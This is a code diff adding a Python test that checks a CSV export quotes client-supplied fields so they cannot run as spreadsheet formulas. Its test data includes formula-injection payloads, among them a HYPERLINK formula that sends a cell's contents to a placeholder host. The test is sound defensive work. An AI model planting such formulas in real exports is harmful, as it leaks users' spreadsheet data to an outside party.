@@ -276,6 +276,26 @@ def test_cli_records_scores_and_exports(tmp_path, model_dir):
     assert r.exit_code == 0 and "up to date" in r.output
 
 
+def test_a_csv_export_never_carries_a_formula(tmp_path):
+    """Part ids and context come from clients; a cell starting with = + - @ would run as a formula in a
+    spreadsheet, so the export shows it as text."""
+    store = RecordStore.open(None, tmp_path)
+    store.upgrade()
+    rec = Recorder(store, "none")
+    rec.start()
+    rec.submit(pending(b"x", part_id='=HYPERLINK("http://x/?"&A1,"click")', line="-1+2", station="@SUM(A1)"))
+    rec.stop()
+    store.close()
+    r = CliRunner().invoke(cli, ["records", "export", "--data-dir", str(tmp_path), "--format", "csv"])
+    assert r.exit_code == 0, r.output
+    import csv
+    import io
+
+    [row] = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert row["part_id"] == "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"
+    assert row["line"] == "'-1+2" and row["station"] == "'@SUM(A1)" and float(row["score"]) == 3.0
+
+
 def test_database_url_defaults_to_sqlite_under_the_data_dir(tmp_path):
     assert database_url(None, tmp_path) == f"sqlite:///{tmp_path.resolve() / 'records.db'}"
     with pytest.raises(ValueError, match="psycopg"):
